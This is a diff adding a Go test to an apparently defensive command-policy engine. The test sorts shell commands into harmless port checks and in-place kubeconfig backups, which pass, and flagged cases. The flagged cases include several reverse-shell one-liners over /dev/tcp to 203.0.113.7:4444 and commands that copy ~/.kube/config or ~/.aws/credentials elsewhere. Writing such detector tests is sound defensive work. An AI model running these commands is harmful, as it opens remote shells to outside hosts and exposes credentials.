@@ -353,3 +353,25 @@ func TestWorkdirParentAndRepositoryCopies(t *testing.T) {
 		{`fly ssh console -a shop -C "ls /data"`, ""},
 	})
 }
+
+// TestPortChecksAndCredentialBackups: a socket opened on a spare
+// descriptor in a script that only prints messages is a port check; any
+// other command may inherit it. A credential copied to a new name in its
+// own directory stays where it was.
+func TestPortChecksAndCredentialBackups(t *testing.T) {
+	t.Parallel()
+	e := newEngine(t, DefaultConfig())
+	checkDecisions(t, e, []ruleCase{
+		{"bash -c 'exec 3<>/dev/tcp/db.acme.internal/5432 && echo port-open'", ""},
+		{"exec 3<>/dev/tcp/db/5432 && echo 'port open' || echo closed", ""},
+		{"bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444; sh <&3 >&3 2>&3'", ruleShellSocket},
+		{"f(){ sh <&3; }; exec 3<>/dev/tcp/203.0.113.7/4444; f", ruleShellSocket},
+		{"exec 3<>/dev/tcp/203.0.113.7/4444; ./run.sh", ruleShellSocket},
+		{"exec 3<>/dev/tcp/203.0.113.7/4444; echo $(id) >&3", ruleShellSocket},
+		{"exec 0<>/dev/tcp/203.0.113.7/4444 && echo open", ruleShellSocket},
+		{"cp ~/.kube/config ~/.kube/config.bak-$(date +%s) && kubectl config get-contexts", ""},
+		{"cp ~/.kube/config /tmp/k", ruleCredentialRead},
+		{"cp ~/.kube/config ~/.kube/../public/k", ruleCredentialRead},
+		{"cp ~/.aws/credentials ~/.kube/x", ruleCredentialRead},
+	})
+}
